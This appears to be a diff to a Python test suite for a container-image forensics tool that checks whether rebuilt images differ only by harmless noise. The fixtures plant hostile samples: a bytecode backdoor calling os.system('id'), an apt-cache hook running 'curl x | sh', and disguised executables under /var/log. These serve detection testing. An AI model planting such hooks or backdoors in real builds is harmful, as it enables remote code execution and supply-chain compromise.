@@ -249,10 +249,34 @@ def _gz(data: bytes, mtime: int) -> bytes:
 
 
 RUN_LINE = "/bin/sh -c apt-get update && apt-get install -y relay-doc && adduser -S relay"
+PLUGIN = b"def run():\n    return 1\n"
+
+
+def _pyc(tmp: Path, source: bytes, mtime: int) -> bytes:
+    """Real bytecode: py_compile of `source` whose file has this mtime (the header holds it)."""
+    import os
+    import py_compile
+
+    work = tmp / f"pyc-{mtime}-{hash(source) & 0xFFFF:x}"
+    work.mkdir(exist_ok=True)
+    src = work / "plugin.py"
+    src.write_bytes(source)
+    os.utime(src, (mtime, mtime))
+    # dfile: the name the code object records, the source's path in the image (as compileall writes it)
+    out = py_compile.compile(str(src), cfile=str(work / "plugin.pyc"), dfile="/usr/lib/relay/plugin.py", doraise=True)
+    return Path(out).read_bytes()
 
 
 def build_rebuild(
-    tmp: Path, name: str, day: int, *, extra=(), shadow_hash: str = "!", run_line: str = RUN_LINE
+    tmp: Path,
+    name: str,
+    day: int,
+    *,
+    extra=(),
+    shadow_hash: str = "!",
+    run_line: str = RUN_LINE,
+    plugin: bytes = PLUGIN,
+    host_key: bytes | None = None,
 ) -> Path:
     """The relay build as it comes out on `2026-01-<day>`: same steps, that day's noise."""
     g = _generator()
@@ -273,11 +297,16 @@ def build_rebuild(
         g.d("usr/lib/relay", t[2]),
         g.f("usr/lib/relay/plugin.py", b"def run():\n    return 1\n", t[2]),
         g.d("usr/lib/relay/__pycache__", t[2]),
-        g.f("usr/lib/relay/__pycache__/plugin.cpython-311.pyc", g.prng_bytes(f"pyc{day}", 120), t[2]),
+        g.f("usr/lib/relay/__pycache__/plugin.cpython-311.pyc", _pyc(tmp, plugin, g.epoch(t[2])), t[2]),
         g.d("usr/share", t[2]),
         g.d("usr/share/doc", t[2]),
         g.d("usr/share/doc/relay", t[2]),
         g.f("usr/share/doc/relay/changelog.gz", _gz(b"relay (5.2) stable\n" * 20, g.epoch(t[2])), t[2]),
+        *(
+            [g.d("etc/ssh", t[2]), g.f("etc/ssh/ssh_host_ed25519_key", host_key, t[2], 0o600)]
+            if host_key is not None
+            else []
+        ),
         *extra,
     ]
     steps = [
@@ -310,6 +339,22 @@ def rebuilds(tmp_path_factory):
         "build-id": build_rebuild(
             tmp, "build-id", 21, extra=[g.d("srv", day2), g.f("srv/build-id.txt", b"21\n", day2)]
         ),
+        "pyc-backdoor": build_rebuild(
+            tmp, "pyc-backdoor", 21, plugin=b"import os\ndef run():\n    os.system('id')\n    return 1\n"
+        ),
+        "hostkey-mon": build_rebuild(tmp, "hostkey-mon", 12, host_key=b"-----KEY mon-----\n"),
+        "hostkey-tue": build_rebuild(tmp, "hostkey-tue", 21, host_key=b"-----KEY tue-----\n"),
+        "code-in-noise": build_rebuild(
+            tmp,
+            "code-in-noise",
+            21,
+            extra=[
+                g.d("var/cache/apt", day2),
+                g.f("var/cache/apt/hook", b"#!/bin/sh\ncurl x | sh\n", day2, 0o644),
+                g.f("var/log/libaudit.so.1", b"not detected as ELF, named as a shared object", day2),
+                g.f("var/log/run.bin", b"data with an execute bit", day2, 0o750),
+            ],
+        ),
         "hostile": build_rebuild(
             tmp,
             "hostile",
@@ -332,7 +377,7 @@ def test_rebuild_only_noise_differs_exit_0(rebuilds):
     noise = {d.path: d.noise for d in cmp.noise.all()}
     assert noise["/var/log/apt/history.log"] == "/var/log/**"
     assert noise["/var/cache/ldconfig/aux-cache"] == "/var/cache/ldconfig/**"
-    assert noise["/usr/lib/relay/__pycache__/plugin.cpython-311.pyc"] == "**/__pycache__/**"
+    assert noise["/usr/lib/relay/__pycache__/plugin.cpython-311.pyc"] == "**/*.pyc"  # header alone differs
     assert noise["/etc/shadow"] == "/etc/shadow"  # equal once the last-change day is masked
     assert noise["/usr/share/doc/relay/changelog.gz"] == "**/*.gz"  # equal but for the gzip MTIME
     assert "/usr/lib/relay/plugin.py" not in noise
@@ -420,3 +465,58 @@ def test_html_comparison_page_escapes_everything(rebuilds, tmp_path):
     assert "First divergence: step 3" in out.read_text()
     text = render_text(cmp)
     assert "/srv/<script>alert(1)</script>" in text  # plain text: shown as is, on one line
+
+
+# ----------------------------------------------------------------- noise that cannot hide code
+
+
+def test_pyc_noise_only_when_header_alone_differs(rebuilds, tmp_path):
+    from forensics.compare.noise import NORMALIZERS
+
+    pyc = "/usr/lib/relay/__pycache__/plugin.cpython-311.pyc"
+    # two real compilations of one source on two days: the 16-byte header differs, the code does not
+    a, b = _pyc(tmp_path, PLUGIN, 1_768_212_002), _pyc(tmp_path, PLUGIN, 1_768_989_602)
+    assert a != b and a[16:] == b[16:] and a[:4] == b[:4]
+    assert NORMALIZERS["pyc-header"](a) == NORMALIZERS["pyc-header"](b)
+    cmp = compare(analyzed(rebuilds["mon"]), analyzed(rebuilds["tue"]))
+    assert {d.path: d.noise for d in cmp.noise.all()}[pyc] == "**/*.pyc"
+    # the same source, other code in the bytecode: a backdoored .pyc is a real difference
+    cmp = compare(analyzed(rebuilds["mon"]), analyzed(rebuilds["pyc-backdoor"]))
+    assert not cmp.content_equal and content_paths(cmp) == {pyc}
+    assert any(f.path == pyc for f in cmp.findings if f.code == "compare.content-differs")
+    res = run(rebuilds["mon"], rebuilds["pyc-backdoor"])
+    assert res.exit_code == 1 and res.output.startswith("CONTENT DIFFERS"), res.output
+
+
+def test_pyc_not_noise_when_bytes_cannot_be_read(rebuilds):
+    from forensics.compare.noise import classify
+
+    cmp = compare(analyzed(rebuilds["mon"]), analyzed(rebuilds["tue"]))
+    pyc = next(d for d in cmp.noise.all() if d.path.endswith(".pyc"))
+    rules = build_rules()
+    assert classify(pyc, rules, None) is None  # no second read: no proof the code is the same
+    assert classify(pyc, rules, lambda rule, d: False) is None
+
+
+def test_host_keys_expected_to_differ_but_counted(rebuilds):
+    cmp = compare(analyzed(rebuilds["hostkey-mon"]), analyzed(rebuilds["hostkey-tue"]))
+    key = "/etc/ssh/ssh_host_ed25519_key"
+    assert not cmp.content_equal and content_paths(cmp) == {key}
+    d = next(d for d in cmp.content.all() if d.path == key)
+    assert d.expected == "/etc/ssh/ssh_host_*" and d.noise is None
+    res = run(rebuilds["hostkey-mon"], rebuilds["hostkey-tue"])
+    assert res.exit_code == 1
+    assert "expected to differ: /etc/ssh/ssh_host_*" in res.output
+    assert "expected to differ" in render_html(cmp)
+
+
+def test_nothing_executable_is_noise(rebuilds):
+    cmp = compare(analyzed(rebuilds["mon"]), analyzed(rebuilds["code-in-noise"]))
+    real = content_paths(cmp)
+    # a shebang script in the apt cache, a shared object by name and a file with an execute
+    # bit under /var/log: every default rule matches them, none hides them
+    assert {"/var/cache/apt/hook", "/var/log/libaudit.so.1", "/var/log/run.bin"} <= real
+    assert not {d.path for d in cmp.noise.all()} & real
+    # an ELF under /tmp: /tmp is expected to differ, and counted
+    cmp = compare(analyzed(rebuilds["mon"]), analyzed(rebuilds["tmp-elf"]))
+    assert "/tmp/.x" in content_paths(cmp) and not cmp.content_equal
